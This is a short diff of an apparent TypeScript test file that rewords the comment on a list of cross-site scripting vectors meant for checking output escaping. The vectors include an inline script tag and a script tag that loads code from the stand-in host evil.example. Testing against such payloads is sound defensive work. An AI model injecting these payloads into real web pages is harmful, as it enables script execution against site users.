@@ -1,6 +1,6 @@
 const RUN = 'alert(1)'
 
-/** Markup that runs a script, or leads somebody astray, where it is shown as it is. */
+/** Markup that runs a script or deceives a reader if it is not escaped. */
 export const VECTORS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
